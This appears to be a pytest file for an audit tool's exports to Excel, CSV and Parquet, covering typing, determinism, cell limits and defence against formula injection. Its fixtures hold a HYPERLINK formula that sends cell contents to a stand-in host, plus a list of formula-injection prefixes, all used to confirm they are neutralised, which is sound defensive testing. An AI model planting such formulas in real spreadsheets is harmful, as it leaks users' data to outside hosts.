"""The exports: complete, typed, the same bytes each time, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from urllib.parse import unquote

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from ogi_audit.batch import workbook as workbooks
from ogi_audit.batch.exports import AUDITS, FINDINGS, harmless, write_exports
from ogi_audit.batch.results import load_results
from ogi_audit.batch.workbook import MOST_CHARACTERS, fitting, workbook
from ogi_audit.messages.terms import COLUMN, SEVERITY
from ogi_audit_testing.folders.output import folder_of_all, publish, result_of

NS = {
    "m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
}
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点击")'
DANGEROUS = (
    *(
        "=1+1",
        "+1",
        "-1+2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "　=1",
        "\ufeff=1",
        "\u200b=1",
    ),
    *("＝1", "＋1", "－1", "＠a", "﹦1", "−1"),
)


def column_of(cell: etree._Element) -> int:
    letters = cell.get("r").rstrip("0123456789")
    return sum((ord(c) - 64) * 26**n for n, c in enumerate(reversed(letters))) - 1


def cells_of(content: bytes, number: int = 1) -> list[list[str | float | None]]:
    """The values of a sheet of a workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        # A large workbook has its texts in the cells.
        has_shared = "xl/sharedStrings.xml" in book.namelist()
        strings = etree.fromstring(book.read("xl/sharedStrings.xml")) if has_shared else ()
        shared = ["".join(one.itertext()) for one in strings]
        sheet = etree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
    assert sheet.find(".//m:f", NS) is None
    rows = []
    for row in sheet.iterfind(".//m:row", NS):
        values: dict[int, str | float] = {}
        for cell in row.iterfind("m:c", NS):
            value = cell.findtext("m:v", namespaces=NS)
            if value is not None:
                column = column_of(cell)
                values[column] = shared[int(value)] if cell.get("t") == "s" else float(value)
            elif cell.get("t") == "inlineStr":
                values[column_of(cell)] = "".join(cell.itertext())
        rows.append([values.get(number) for number in range(max(values, default=-1) + 1)])
    return rows


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    path = folder_of_all(tmp_path_factory.mktemp("reports"))
    written = result_of("sample-2023.txt")
    written["report"].update(id="怪(（1）) #%-0", agency=FORMULA)
    written["findings"][0]["review"] = {"state": "confirmed", "reason": "@cmd", "reviewer": "－1"}
    written["findings"][1]["message"] = {"zh": "\x00\x0b坏\ufffe_x0041_", "en": "bad"}
    written["findings"][2]["observed"] = "x" * 40_000
    publish(path, written)
    write_exports(path, load_results(path))
    return path


@pytest.fixture(scope="module")
def results(folder):
    return load_results(folder)


def test_one_row_a_finding_in_each(folder, results):
    rows = cells_of((folder / "findings.xlsx").read_bytes())
    lines = list(csv.reader(io.StringIO((folder / "findings.csv").read_text("utf-8-sig"))))
    table = pq.read_table(folder / "findings.parquet")
    assert rows[0] == lines[0] == [COLUMN[name]["zh"] for name in FINDINGS]
    assert len(rows) - 1 == len(lines) - 1 == table.num_rows == len(results.findings)
    prints = list(results.findings["fingerprint"])
    number = FINDINGS.index("fingerprint")
    assert [row[number] for row in rows[1:]] == prints == table["fingerprint"].to_pylist()
    assert [line[number] for line in lines[1:]] == prints
    kinds = {one["zh"] for one in SEVERITY.values()}
    assert {row[0] for row in rows[1:]} <= kinds


def test_figures_are_figures(folder, results):
    rows = cells_of((folder / "findings.xlsx").read_bytes())
    first = next(row for row in rows if row[FINDINGS.index("rule")] == "requests.balance")
    for name, value in (("observed", 54), ("expected", 55), ("difference", -1), ("year", 2023)):
        assert first[FINDINGS.index(name)] == value
    text = (folder / "findings.csv").read_text("utf-8-sig")
    assert ",54,55,-1," in text
    schema = pq.read_schema(folder / "findings.parquet")
    assert schema.names == list(results.findings)
    kinds = {name: str(schema.field(name).type) for name in schema.names}
    assert kinds.pop("year") == "int64"
    assert {kinds.pop(name) for name in ("observed", "expected", "difference")} == {"double"}
    assert set(kinds.values()) == {"string"}
    assert schema.metadata is None


def test_the_reports_have_a_sheet_with_the_reasons(folder, results):
    rows = cells_of((folder / "findings.xlsx").read_bytes(), 2)
    assert rows[0] == [COLUMN[name]["zh"] for name in AUDITS]
    assert len(rows) - 1 == len(results.audits)
    status, reason = AUDITS.index("status"), AUDITS.index("error")
    said = {row[status]: row[reason] for row in rows[1:]}
    assert said["审核失败"] == "慢.doc：超过时限"
    assert said["无法读取"] == "扫描件.pdf：PDF 是扫描件"
    assert said["已审核"] is None


def test_nothing_is_a_formula(folder):
    content = (folder / "findings.xlsx").read_bytes()
    agency = FINDINGS.index("agency")
    assert [row[agency] for row in cells_of(content) if FORMULA in row] == [FORMULA] * 3
    lines = list(csv.reader(io.StringIO((folder / "findings.csv").read_text("utf-8-sig"))))
    assert [line for line in lines if line[agency] == "'" + FORMULA]
    for line in lines[1:]:
        for name, value in zip(FINDINGS, line, strict=True):
            if name not in ("observed", "expected", "difference", "year"):
                assert harmless(value) == value or value.startswith("'")
    assert "'@cmd" in (folder / "findings.csv").read_text("utf-8-sig")


def test_what_a_cell_cannot_hold(folder):
    rows = cells_of((folder / "findings.xlsx").read_bytes())
    messages = [row[FINDINGS.index("message")] for row in rows]
    assert any(text.endswith("坏_x005F_x0041_") for text in messages)
    longest = max((str(row[FINDINGS.index("observed")] or "") for row in rows), key=len)
    assert len(longest) == MOST_CHARACTERS
    assert longest.endswith("（过长，已截断）")


def test_filters_head_and_links(folder):
    with zipfile.ZipFile(folder / "findings.xlsx") as book:
        for number in (1, 2):
            sheet = etree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
            rows = len(sheet.findall(".//m:row", NS))
            assert sheet.find("m:autoFilter", NS).get("ref").endswith(str(rows))
            assert sheet.find(".//m:pane", NS).get("topLeftCell") == "A2"
            assert len(sheet.findall(".//m:col", NS)) >= 1
            relations = etree.fromstring(book.read(f"xl/worksheets/_rels/sheet{number}.xml.rels"))
            targets = {one.get("Target") for one in relations}
            assert all((folder / unquote(target)).is_file() for target in targets)
            # The report that failed has no audit to open.
            assert len(targets) == (6 if number == 2 else 4)


def test_the_same_bytes_each_time(folder, results, tmp_path):
    for path in write_exports(tmp_path, results):
        assert path.read_bytes() == (folder / path.name).read_bytes()
    content = b"".join(path.read_bytes() for path in tmp_path.iterdir())
    assert str(Path.home()).encode() not in content
    with zipfile.ZipFile(tmp_path / "findings.xlsx") as book:
        assert {one.date_time[0] for one in book.infolist()} == {1980}
        assert b"2000-01-01" in book.read("docProps/core.xml")


def test_an_empty_folder_and_english(tmp_path):
    paths = write_exports(tmp_path, load_results(tmp_path), "en")
    assert [path.name for path in paths] == ["findings.xlsx", "findings.csv", "findings.parquet"]
    assert cells_of(paths[0].read_bytes()) == [[COLUMN[name]["en"] for name in FINDINGS]]
    assert paths[1].read_bytes().startswith(b"\xef\xbb\xbfSeverity,Agency")
    assert pq.read_table(paths[2]).num_rows == 0


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_could_run_is_text(text):
    assert harmless(text) == "'" + text


@given(st.text())
def test_harmless_text_never_begins_a_formula(text):
    shown = harmless(text).strip().lstrip("\x00\ufeff\u200b")
    assert not shown.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert harmless(text).endswith(text)


@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"])), st.sampled_from(["zh", "en"]))
def test_texts_fit_into_cells(text, language):
    long = text * (MOST_CHARACTERS // max(len(text), 1) + 1)
    for one in (text, long):
        fit = fitting(one, language)
        assert len(fit.encode("utf-16-le")) <= 2 * MOST_CHARACTERS
        assert fit == one or len(one.encode("utf-16-le")) > 2 * MOST_CHARACTERS


@pytest.mark.parametrize("is_large", [False, True])
def test_a_full_sheet_says_so_at_its_end_and_on_a_sheet_of_its_own(monkeypatch, tmp_path, is_large):
    if is_large:
        monkeypatch.setattr(workbooks, "_LARGE", 5)
    monkeypatch.setattr(workbooks, "MOST_ROWS", 10)
    monkeypatch.setattr(workbooks, "MOST_LINKS", 3)
    table = {"message": [f"第{n}项" for n in range(20)], "link": [f"{n}.html" for n in range(20)]}
    parts = [{name: values[at : at + 7] for name, values in table.items()} for at in (0, 7, 14)]
    stream = io.BytesIO()
    with workbook(stream, {"findings": 20}, "zh", tmp_path) as book:
        book.add("findings", tuple(table), parts)
    note = "工作表“问题”已满（Excel 的上限）：共 20 行，另有 12 行未列出，全部见 findings.csv。"
    assert cells_of(stream.getvalue()) == [[note]]
    rows = cells_of(stream.getvalue(), 2)
    assert len(rows) == 10
    assert rows[3] == ["第2项", "审核"]
    assert rows[4] == ["第3项", "3.html"]
    assert rows[-1] == [note]
    # Nothing is left of where its rows were meanwhile.
    assert [*tmp_path.iterdir()] == []
